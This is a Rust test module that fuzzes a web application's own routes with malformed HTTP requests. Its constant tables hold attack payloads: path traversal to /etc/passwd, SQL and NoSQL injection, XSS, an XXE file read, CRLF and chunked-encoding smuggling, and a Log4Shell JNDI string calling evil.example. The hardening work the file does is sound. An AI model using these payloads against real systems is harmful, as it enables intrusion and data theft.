//! Requests that no browser sends: wrong in method, path, head, body or in every byte.

use postern::web::routes::{TABLE, Who};

use super::Case;
use super::dice::Dice;
use super::request::{FORM, Request, cookies, encoded, pairs};
use super::sender::Sender;
use super::spoilt::{TYPES, spoil};

const METHODS: [&str; 12] = [
    "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "BREW", "post",
    "PROPFIND",
];

/// What stands where an id, an act or a file belongs, and behind question marks.
const JUNK: [&str; 20] = [
    "",
    "x",
    "0",
    "-1",
    "%00",
    "a%00b",
    "%",
    "%zz",
    "%ff%fe",
    "%c0%ae%c0%ae%2f",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%0d%0aX-Injected:%20yes",
    "%e2%80%ae%e2%81%a6",
    "'%20OR%20'1'='1",
    "%3Cscript%3E",
    "01890000-0000-7000-8000-000000000000",
    "99999999999999999999999",
    "%25%32%35",
    "%f0%9f%94%91",
    "{{7*7}}",
];

/// Parameters that some page reads, and one that none does.
const PARAMETERS: [&str; 17] = [
    "q",
    "role",
    "state",
    "method",
    "requirement",
    "after",
    "before",
    "account",
    "kind",
    "from",
    "to",
    "token",
    "next",
    "channel",
    "username",
    "reason",
    "debug",
];

const BODIES: [&[u8]; 12] = [
    b"",
    b"&",
    b"=",
    b"&&&==",
    b"{\"username\":\"ada\",\"password\":{\"$ne\":\"\"}}",
    b"--x\r\nContent-Disposition: form-data; name=\"form_token\"\r\n\r\n1\r\n--x--\r\n",
    b"form_token=1&username=ada&password=correct+horse+battery+staple",
    b"form_token=%00&code=123456",
    b"\x1f\x8b\x08\x00\x00\x00",
    b"\xff\xfe\x00\x00",
    b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    b"form_token=a;username=b",
];

/// Harmless by themselves, in any number.
const MORE: [(&str, &str); 12] = [
    ("Accept", "*/*;q=2.0, ,;"),
    ("Accept-Language", "xx-🦀, *;q=-1"),
    ("Accept-Encoding", "gzip;q=0, br, \u{7f}"),
    ("User-Agent", ""),
    ("User-Agent", "<script>alert(1)</script>\t${jndi:ldap://evil.example/a}"),
    ("If-None-Match", "\"\", W/\"x\", *"),
    ("If-Modified-Since", "Thu, 99 Foo 99999 99:99:99 GMT"),
    ("Range", "bytes=18446744073709551615-0,-1,0-"),
    ("Authorization", "Basic YWRhOng="),
    ("X-HTTP-Method-Override", "DELETE"),
    ("Expect", "100-continue"),
    ("Upgrade", "h2c, websocket"),
];

/// Any request at all.
pub fn next(dice: &mut Dice, senders: &[Sender]) -> Case {
    let sender = dice.one(senders);
    let case = match dice.below(10) {
        0..=3 => look(dice, senders),
        4 | 5 => push(dice, sender, senders),
        6 | 7 => spoilt_form(dice, sender, senders),
        _ => bytes(dice, sender, senders),
    };
    // The page that comes back is that of the browser whose cookies were sent, with its token.
    let sent = case.request.value("Cookie").unwrap_or_default();
    match senders.iter().find(|sender| cookies(&sender.form) == sent).map(Sender::live) {
        Some(live) if live != case.live => {
            let secrets = case.secrets.iter().filter(|secret| **secret != live).chain([&case.live]);
            Case { secrets: secrets.cloned().collect(), live, ..case }
        }
        Some(_) | None => case,
    }
}

/// Opens a page of the table, or tries to, with whatever may stand in an address.
fn look(dice: &mut Dice, senders: &[Sender]) -> Case {
    let (_, path, who) = dice.one(TABLE);
    let sender = fitting(dice, senders, *who);
    let case = sender.case(sender.secrets(&[], senders));
    let count = dice.below(4);
    let query: Vec<_> = (0..count).map(|_| format!("{}={}", dice.pick(&PARAMETERS), junk(dice))).collect();
    let path = filled(dice, path);
    let path = if dice.falls(15) { misspelt(dice, &path) } else { path };
    let target = if query.is_empty() { path } else { format!("{path}?{}", query.join("&")) };
    let mut request = Request { target: target.clone().into_bytes(), ..case.request };
    let method = if dice.falls(80) { "GET" } else { dice.pick(&METHODS) };
    request.method = method.as_bytes().to_vec();
    for _ in 0..dice.below(4) {
        let (name, value) = dice.pick(&MORE);
        request.add(name, value);
    }
    if dice.falls(20) {
        spoil(dice, &mut request, sender, senders);
    }
    let target: String = target.chars().take(200).collect();
    Case { what: format!("{method} {target}, asked by whoever is at {}", sender.route), request, ..case }
}

/// Mostly somebody whom the route lets in, and sometimes anybody.
fn fitting<'a>(dice: &mut Dice, senders: &'a [Sender], who: Who) -> &'a Sender {
    let fits = |sender: &&Sender| match who {
        Who::Administrator => sender.route.starts_with("/admin"),
        Who::PendingLogin => sender.route.starts_with("/login/"),
        Who::Session => sender.route.starts_with("/profile"),
        Who::Anyone | Who::Provider | Who::Development => true,
    };
    let those: Vec<_> = senders.iter().filter(fits).collect();
    if dice.falls(70) { dice.pick(&those) } else { dice.one(senders) }
}

/// A path of the table, with anything in its gaps.
fn filled(dice: &mut Dice, path: &str) -> String {
    let action = dice.pick(&["disable", "enable", "issue-pass", "%00", "x", "../enable"]);
    path.replace("{path:.*}", &junk(dice)).replace("{id}", &junk(dice)).replace("{action}", action)
}

fn misspelt(dice: &mut Dice, path: &str) -> String {
    match dice.below(6) {
        0 => format!("{path}/"),
        1 => format!("/{path}"),
        2 => path.to_uppercase(),
        3 => format!("{path};jsessionid=1"),
        4 => path.replace('/', "%2f"),
        _ => format!("{path}/../.."),
    }
}

fn junk(dice: &mut Dice) -> String {
    match dice.below(20) {
        0 => "a".repeat(dice.pick(&[300, 5_000])),
        1 => dice.bytes(12).iter().map(|byte| format!("%{byte:02x}")).collect(),
        _ => dice.pick(&JUNK).to_owned(),
    }
}

/// Sends something to an unsafe route that is no form of ours: its token is missing or worth nothing.
fn push(dice: &mut Dice, sender: &Sender, senders: &[Sender]) -> Case {
    let unsafe_routes: Vec<_> = TABLE.iter().filter(|(method, ..)| *method != "GET").collect();
    let (_, path, who) = dice.pick(&unsafe_routes);
    let target = filled(dice, path);
    let mut sent = pairs(&dice.one(senders).form);
    sent.retain(|(name, _)| name != b"form_token");
    if dice.falls(50) {
        sent.push((b"form_token".to_vec(), encoded(&"A".repeat(43))));
    }
    let case = sender.case(sender.secrets(&sent, senders));
    let mut request = case.request.clone();
    request.method = b"POST".to_vec();
    request.target = target.clone().into_bytes();
    request.add("Content-Type", if dice.falls(60) { FORM } else { dice.pick(&TYPES) });
    match dice.below(4) {
        0 | 1 => request.fill(&sent),
        2 => request.carry(dice.pick(&BODIES).to_vec()),
        _ => {
            let many = dice.pick(&[1, 100, 16_384, 70_000]);
            request.carry(dice.bytes(many));
        }
    }
    if *who == Who::Provider {
        request.add("X-Twilio-Signature", dice.pick(&["", "AAAA", "🦀"]));
    }
    Case { what: format!("something sent to {target} by whoever is at {}", sender.route), request, ..case }
}

/// A form as it should be, spoilt by its head.
fn spoilt_form(dice: &mut Dice, sender: &Sender, senders: &[Sender]) -> Case {
    let mut sent = pairs(&sender.form);
    // At the end, where a cut hits it.
    sent.sort_by_key(|(name, _)| name == b"form_token");
    let mut request = Request::of(&sender.form, &sent);
    let how = spoil(dice, &mut request, sender, senders);
    let case = sender.case(sender.secrets(&sent, senders));
    Case { what: format!("{}, {how}", sender.route), request, ..case }
}

/// Bytes that are hardly a request.
fn bytes(dice: &mut Dice, sender: &Sender, senders: &[Sender]) -> Case {
    let case = sender.case(sender.secrets(&[], senders));
    let (_, path, _) = dice.one(TABLE);
    let mut request = Request { target: filled(dice, path).into_bytes(), ..case.request.clone() };
    let host = request.value("Host").unwrap();
    let how = match dice.below(12) {
        0 => return raw(case, dice.bytes(600)),
        1 => return raw(case, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec()),
        2 => {
            return raw(
                case,
                [b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03".to_vec(), dice.bytes(300)].concat(),
            );
        }
        3 => return raw(case, format!("GET / HTTP/1.1\r\nHost: {host}\r\nX: ").into_bytes()),
        4 => return raw(case, vec![dice.pick(b"\r\n\0A /"); dice.pick(&[1, 200, 200_000])]),
        5 => {
            let chunks = dice.pick(&[
                "ffffffffffffffff\r\n",
                "-1\r\n",
                "5;x=\r\nabc",
                "0\r\nX-Injected: yes\r\n",
                "zz\r\n",
            ]);
            request.method = b"POST".to_vec();
            request.add("Content-Type", FORM);
            request.add("Transfer-Encoding", "chunked");
            request.body = chunks.as_bytes().to_vec();
            format!("in chunks {chunks:?}")
        }
        6 => {
            let name = dice.pick(&["X Y", "X\0", "X\u{e9}", "", "X:", "(X)", "X\r\nX-Injected"]);
            request.add(name, "yes");
            format!("with a header called {name:?}")
        }
        7 => {
            let value = dice.pick(&[
                "a\0b",
                "a\rb",
                "a\r\n folded",
                "\u{1b}[2J",
                "\u{80}\u{ff}",
                "a\nX-Injected: yes",
            ]);
            request.add(dice.pick(&["X-Any", "User-Agent", "Referer", "Cookie"]), value);
            format!("with a header saying {value:?}")
        }
        8 => {
            for n in 0..dice.pick(&[50, 95, 200, 5_000]) {
                request.add(&format!("X-{n}"), "1");
            }
            "with very many headers".to_owned()
        }
        9 => {
            request.add("X-Long", &"a".repeat(dice.pick(&[8_000, 70_000, 300_000])));
            "with a very long header".to_owned()
        }
        10 => {
            let long = "/a".repeat(dice.pick(&[2_000, 40_000, 100_000]));
            request.target = [request.target.clone(), long.into_bytes()].concat();
            "under a very long path".to_owned()
        }
        _ => {
            let target = dice.pick(&[
                "*",
                "http://evil.example/login",
                "evil.example:80",
                "//evil.example",
                "login",
                "/\u{e9}",
                "/a b",
                "/#x",
                "?",
                "http://[::1",
                "/\0",
            ]);
            request.target = target.as_bytes().to_vec();
            format!("for {target:?}")
        }
    };
    let mut bytes = request.bytes();
    if dice.falls(25) {
        shake(dice, &mut bytes);
    }
    Case { what: how, sent: Some(bytes), request, ..case }
}

fn raw(case: Case, bytes: Vec<u8>) -> Case {
    let what = format!("bytes: {:?}", String::from_utf8_lossy(&bytes[..bytes.len().min(60)]));
    Case { what, sent: Some(bytes), ..case }
}

/// Changes, drops and doubles some bytes.
fn shake(dice: &mut Dice, bytes: &mut Vec<u8>) {
    for _ in 0..=dice.below(8) {
        let at = dice.below(bytes.len());
        match dice.below(3) {
            0 => bytes[at] = dice.bytes(1)[0],
            1 => drop(bytes.remove(at)),
            _ => bytes.insert(at, bytes[at]),
        }
    }
}
